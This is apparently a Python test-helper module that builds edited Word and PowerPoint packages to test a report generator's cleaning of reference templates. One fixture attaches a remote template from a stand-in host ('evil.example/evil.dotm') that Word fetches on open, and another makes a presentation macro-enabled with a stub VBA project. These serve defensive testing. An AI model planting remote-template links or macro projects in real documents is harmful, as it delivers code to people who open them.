"""Office packages for the tests of reference cleaning: a shipped reference, edited entry by entry."""

from __future__ import annotations

import io
import posixpath
import warnings
import zipfile
from pathlib import Path

from reportgen.resources import shipped_templates

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
SHIPPED_DOCX = shipped_templates() / "reference.docx"
SHIPPED_PPTX = shipped_templates() / "reference.pptx"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
PPTM = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vbaProject"


class Package:
    """The entries of an Office package by name, in order; edits return the package, for chaining."""

    def __init__(self, source: Path | bytes = SHIPPED_DOCX) -> None:
        data = source if isinstance(source, bytes) else source.read_bytes()
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            self.entries = {name: package.read(name) for name in package.namelist()}
        self.extra: list[tuple[str, bytes]] = []  # written after the entries, even under a name already used

    def add(self, name: str, content: bytes | str, content_type: str | None = None) -> Package:
        """Add (or replace) entry `name`; with `content_type`, declare it in [Content_Types].xml."""
        self.entries[name] = content.encode() if isinstance(content, str) else content
        if content_type:
            self.replace("[Content_Types].xml", "</Types>",
                         f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>')
        return self

    def relate(self, source: str, rid: str, rel_type: str, target: str, external: bool = False) -> Package:
        """Add relationship `rid` of type `rel_type` from part `source` ("" for the package) to `target`."""
        folder, base = posixpath.split(source)
        rels = posixpath.join(folder, "_rels", f"{base}.rels")
        if rels not in self.entries:
            self.entries[rels] = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                                  f'<Relationships xmlns="{RELS_NS}"></Relationships>').encode()
        mode = ' TargetMode="External"' if external else ""
        return self.replace(rels, "</Relationships>",
                            f'<Relationship Id="{rid}" Type="{rel_type}" Target="{target}"{mode}/></Relationships>')

    def replace(self, name: str, old: str, new: str) -> Package:
        """Replace the first `old` in entry `name` (which must contain it) with `new`."""
        text = self.entries[name].decode("utf-8")
        assert old in text, (name, old)
        self.entries[name] = text.replace(old, new, 1).encode("utf-8")
        return self

    def main_type(self, old: str, new: str) -> Package:
        """Declare the main part's content type `new` instead of `old`."""
        return self.replace("[Content_Types].xml", f'ContentType="{old}"', f'ContentType="{new}"')

    def duplicate(self, name: str, content: bytes | str) -> Package:
        """Write a second entry called `name` after the others."""
        self.extra.append((name, content.encode() if isinstance(content, str) else content))
        return self

    def bytes(self) -> bytes:
        out = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about a duplicate name
            with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
                for name, content in [*self.entries.items(), *self.extra]:
                    package.writestr(name, content)
        return out.getvalue()

    def save(self, target: Path) -> None:
        target.write_bytes(self.bytes())


def docx_settings_template(url: str = "http://evil.example/evil.dotm") -> Package:
    """The shipped reference.docx attaching a remote template, as Word fetches on open."""
    return (Package(SHIPPED_DOCX)
            .replace("word/settings.xml", "<w:zoom", '<w:attachedTemplate r:id="rIdT"/><w:zoom')
            .relate("word/settings.xml", "rIdT", f"{R}/attachedTemplate", url, external=True))


def pptx_with_macros() -> Package:
    """The shipped reference.pptx made macro-enabled, with a VBA project."""
    pml = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return (Package(SHIPPED_PPTX).main_type(pml, PPTM)
            .add("ppt/vbaProject.bin", b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"Evil\"", VBA)
            .relate("ppt/presentation.xml", "rIdV", f"{MS}/vbaProject", "vbaProject.bin"))


def entry_names(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.namelist()


def everything(data: bytes) -> bytes:
    """Return every entry of package `data` concatenated: for asserting what appears nowhere in it."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return b"\n".join(package.read(name) for name in package.namelist())
